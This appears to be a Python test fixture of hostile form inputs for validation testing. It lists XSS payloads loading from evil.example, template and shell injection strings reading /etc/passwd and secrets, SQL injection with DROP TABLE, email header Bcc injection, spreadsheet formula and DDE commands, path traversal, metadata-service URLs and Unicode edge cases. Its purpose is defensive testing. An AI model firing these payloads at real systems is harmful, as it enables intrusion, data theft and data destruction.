"""What hostile people type into a form. Each is one value of a field; most are tried as name and as town."""

EVIL = "evil.example"
_MARKUP = [
    "<script>alert(1)</script>",
    f"<script src=//{EVIL}/x.js></script>",
    f'"><img src=http://{EVIL}/x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    f'<iframe src="https://{EVIL}"></iframe>',
    f"<link rel=attachment href='http://{EVIL}/a'>",
    f"<object data='http://{EVIL}/o'></object>",
    f"<style>@import 'http://{EVIL}/s.css';</style>",
    f"<p style='background:url(http://{EVIL}/b)'>x</p>",
    f"<base href='http://{EVIL}/'>",
    f'<meta http-equiv="refresh" content="0;url=http://{EVIL}">',
    f"<a href='javascript:alert(1)'>{EVIL}</a>",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!--", "-->", "<![CDATA[x]]>", "</style>", "</p></article>", "<ol><li>one more demand</li></ol>",
    "&lt;script&gt;", "&#60;script&#62;", "&nbsp;&amp;", "\\u003cscript\\u003e", "%3Cscript%3E",
    "<IMG SRC=&#106;&#97;&#118;&#97;>", "<math><mi//xlink:href='data:x,<script>'>",
    f"<embed src=//{EVIL}>", "<form action=/admin/>", "<input autofocus>", "<details open ontoggle=alert(1)>",
    "＜script＞alert(1)＜/script＞",
]  # fmt: skip
_TEMPLATES = [
    "{{ 7|add:1336993 }}", "{{ 7*191000 }}", "{% now 'Y' %}", "{% include '/etc/passwd' %}", "{% load static %}",
    "{{ settings.SECRET_KEY }}", "{{ request }}", "{# x #}", "{% debug %}", "${7*191000}", "#{7*191000}", "<%= 7*191000 %>",
    "%(name)s", "%s%s%s%n", "{0.__class__}", "{name}", "{}", "{signer}", "⟦name⟧", "[[7*191000]]", "@(7*191000)",
    "$(id)", "`id`", "$((7*191000))", "; ls /", "| cat /etc/passwd", "&& id", "%24%7B7%2A191000%7D", "__import__('os')",
    "{{''.__class__.__mro__}}", "\\input{/etc/passwd}", "$\\sum$", "*{7*191000}", "~{7*191000}",
]  # fmt: skip
_DATABASE = [
    "'; DROP TABLE appeals_signature; --", "' OR '1'='1", '" OR ""="', "1; SELECT pg_sleep(9)", "%' AND 1=0 --",
    "\\'; --", "') UNION SELECT 1 --", "admin'--", "0x27", "*)(uid=*))(|(uid=*", "'||(SELECT 1)||'", "%", "_", "\\",
    "{\"$gt\": \"\"}", "NULL", "null", "None", "true", "NaN", "-1", "0", "1e309", "Infinity", "[]", "{}",
]  # fmt: skip
_HEADERS = [
    f"Amara\r\nBcc: all@{EVIL}", f"Amara\nBcc: all@{EVIL}", f"Amara\rBcc: all@{EVIL}", "Amara%0d%0aBcc: x",
    f"Amara\x0bBcc: all@{EVIL}", f"Amara\x85Bcc: all@{EVIL}", f"Amara\u2028Bcc: all@{EVIL}", "Amara\x00",
    f"=?utf-8?q?Bcc:_all@{EVIL}?=", f"=?utf-8?b?QmNjOiBhbGw=?= <all@{EVIL}>", f"Amara <all@{EVIL}>",
    f'"Amara" <all@{EVIL}>, x', f"all@{EVIL}", "Amara, Bcc: x", "Amara; x", "Amara (comment)", "--boundary",
    "Content-Type: text/html", "\r\n.\r\nMAIL FROM:<x>", "\n\n<html>", "Amara\t\tx", "\x1b[31mred", "\x7f", "\x08\x08",
]  # fmt: skip
_SPREADSHEETS = [
    "=1+1", "=HYPERLINK(\"http://evil.example\")", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "＝1＋1", "＋1",
    "－1", "＠SUM", "\t=1+1", "\r=1+1", " =1+1", "'=1+1", "\"=1+1", ";=1+1", ",=1+1", "=IMPORTXML(CONCAT(\"http://evil\"))",
    "|calc", "%0A=1", "=\"a\"&\"b\"", "{=1}", "DDE(\"cmd\")", "=WEBSERVICE(\"http://evil.example\")",
]  # fmt: skip
_PLACES = [
    f"http://{EVIL}/", f"https://{EVIL}", f"//{EVIL}/x", f"file:///etc/passwd#{EVIL}", "file:///etc/passwd",
    "/etc/passwd", "../../../etc/passwd", "..\\..\\windows", "C:\\x", "\\\\evil\\share", "data:text/html,x",
    "javascript:alert(1)", f"ftp://{EVIL}", f"url(http://{EVIL})", "http://169.254.169.254/latest", "http://[::1]/",
    f"gopher://{EVIL}", "jar:x!/", "php://input", "con", "nul", ".", "..", "~root",
]  # fmt: skip
_UNICODE = [
    "Amara\u202egnp.exe", "\u202eOkafor", "\u2066x\u2069", "\u061cAmara", "\ufeffAmara", "\u200b", "\u200d" * 50,
    "\u3164", "\u2800", "A" + "\u0301" * 50, "Z\u0335\u0336\u0337\u0338\u0321\u0322\u0323", "\ufdfd" * 40, "𒐫" * 60,
    "Ａｍａｒａ", "ﷺ", "\U000e0041", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\u0000", "\ud800", "\udfff",
    "\ufffe", "\uffff", "\ue000", "\u2028", "\u0085", "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306", "ı̇", "ẞ", "ﬀ",
    "\u1160", "꙰" * 30, "\u00ad" * 20, "Ω", "K", "İ" * 30, "\U0010ffff", "‮‮‮", "́", "ྃ" * 9,
]  # fmt: skip
_SIZES = ["", " ", "x" * 100, "x" * 101, "x" * 399, "x" * 5_000, "é" * 100, "W" * 100, "👩‍👩‍👧" * 100, "x " * 200, "\n" * 5_000, "‑" * 100, "\u00a0" * 90 + "x"]  # fmt: skip

HOSTILE = [*_MARKUP, *_TEMPLATES, *_DATABASE, *_HEADERS, *_SPREADSHEETS, *_PLACES, *_UNICODE, *_SIZES]
